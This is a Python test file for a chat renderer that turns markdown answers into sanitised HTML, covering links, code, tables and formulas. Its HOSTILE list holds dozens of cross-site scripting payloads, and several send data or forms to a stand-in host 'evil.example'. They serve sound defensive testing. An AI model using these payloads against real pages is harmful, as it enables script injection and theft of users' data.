"""Answers as HTML."""

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest

from chat.render import ATTRIBUTES, LONGEST_RENDERED, TAGS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](/admin/logout/)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?d=secret)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\"><script>alert(1)</script>")',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <object data=x></object><embed src=x>",
    "<a id=start name=body>clobber</a>",
    "<template><script>alert(1)</script></template>",
    "</div></main><script>alert(1)</script>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$$\text{<style><img src=x onerror=alert(1)></style>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(https://evil.example)}{x}$",
    r"$\class{x\" onmouseover=\"alert(1)}{x}$",
    r"$\unicode{<img src=x onerror=alert(1)>}$",
    r"\(<img src=x onerror=alert(1)>\)",
    r"\[<svg onload=alert(1)>\]",
    r"$\hspace{1em\" onload=\"alert(1)}$",
    r"$\color{red;background:url(//evil.example)}x$",
    r"$\begin{array}{<script>alert(1)</script>}x\end{array}$",
    "$<annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>$",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "```php\n<?php echo '</span></code></pre><script>alert(1)</script>'; ?>\n```",
    "```diff\n+<img src=x onerror=alert(1)>\n```",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href=https://a.example ping=https://evil.example>x</a>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[![x](https://evil.example/p.png)](https://a.example)",
    '<https://a.example/"onclick=alert(1)>',
]


class Elements(HTMLParser):
    """Collects what a browser would make of the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


def check_is_harmless(html: str) -> None:
    """Nothing but what the allow-list names, no address but of the web and mail."""
    for tag, attributes in elements(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"class", "rel", "target", "tabindex"}
        assert re.fullmatch(r"(https?://|mailto:)\S*", attributes.get("href") or "https://")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_comes_out_of_hostile_input(text: str) -> None:
    check_is_harmless(to_html(text))


def test_there_is_a_corpus_worth_its_name() -> None:
    assert len(HOSTILE) >= 60


def test_an_image_becomes_a_link_that_loads_nothing() -> None:
    html = to_html("![a cat](https://evil.example/?d=secret)")

    assert "<img" not in html


def test_links_open_apart_and_say_nothing_of_us() -> None:
    [(_, _), (tag, attributes)] = elements(to_html("[x](https://a.example/b?c=d)"))

    assert tag == "a"
    assert attributes == {
        "href": "https://a.example/b?c=d",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


def test_code_keeps_every_character_and_names_its_language() -> None:
    html = to_html('```python\nif a < b and b > c:  # "&"\n```')

    assert '<span class="code-language">python</span>' in html
    assert 'if a &lt; b and b &gt; c:  # "&amp;"' in re.sub(r"</?span[^>]*>", "", html)
    assert '<span class="k">if</span>' in html
    assert '<pre tabindex="0">' in html


@pytest.mark.parametrize("language", ["python", "klingon"])
@pytest.mark.parametrize("count", [1, 40, 80, 81, 82, 200, 1_000])
def test_long_code_comes_in_groups_and_keeps_every_character(language: str, count: int) -> None:
    code = "".join(f'x = """{place}\n\n  <&> """ # \u3042\n' for place in range(count))

    html = to_html(f"```{language}\n{code}```")

    [body] = re.findall(r'<code class="code-text">(.*?)</code>', html, re.DOTALL)
    assert unescape(re.sub(r"<[^>]+>", "", body)) == code
    assert ('class="lines"' in html) == (3 * count > 80)


def test_tables_are_aligned_by_class() -> None:
    html = to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")

    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style=" not in html


def test_ordinary_markdown_is_rendered() -> None:
    html = to_html("# Head\n\n**bold** *em* ~~old~~\n\n1. one\n2. two\n\n> quote")

    for piece in ("<h1>Head</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>old</s>", "<ol>", "<blockquote>"):
        assert piece in html


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "from $ 5 to $ 10", "US$100 or A$150", "\\$x\\$"])
def test_dollars_stay_dollars(text: str) -> None:
    assert "<math" not in to_html(text)


@pytest.mark.parametrize(
    ("text", "display"),
    [
        (r"$h \sim 10^{-21}$", "inline"),
        (r"\(a < b\)", "inline"),
        ("$$\na = b\n$$", "block"),
        ("\\[\na = b\n\\]", "block"),
        (r"so \[x^2\] it is", "block"),
        (r"$\begin{aligned}a&=b\\c&=d\end{aligned}$", "inline"),
    ],
)
def test_formulas_become_mathml(text: str, display: str) -> None:
    html = to_html(text)

    assert f'<math display="{display}">' in html
    assert "\\" not in html


@pytest.mark.parametrize("text", [r"$\frac$", r"$a_b_c$", r"$\left($", "$" + "{" * 900 + "}" * 900 + "$"])
def test_what_is_no_formula_is_shown_as_it_is(text: str) -> None:
    html = to_html(text)

    assert "<math" not in html or html.count("<mrow>") < 1000
    assert text.strip("$")[:5] in html or "<math" in html


def test_what_is_too_long_is_shown_as_it_is() -> None:
    html = to_html("<b>" + "x" * LONGEST_RENDERED)

    assert "<b>" not in html
    assert "&lt;b&gt;" in html


@pytest.mark.parametrize(
    "text",
    [
        *("[[" * 20_000, ">" * 20_000, "*a " * 30_000, "`" * 50_000, "- " * 20_000, "|a" * 9_000),
        *("$a" * 20_000, "$$" * 20_000, "\\(" * 20_000, "\\[\n" * 10_000, "$" + "{" * 1_900 + "$"),
        *("```java\n" + "a\n" * 8_000, "```csharp\n" + "a\n" * 8_000, "```c\n" + "\n" * 19_000),
        "```diff\n" + "a" * 19_000,
    ],
)
def test_hostile_nesting_takes_bounded_time(text: str) -> None:
    began = time.process_time()

    to_html(text)

    assert time.process_time() - began < 5
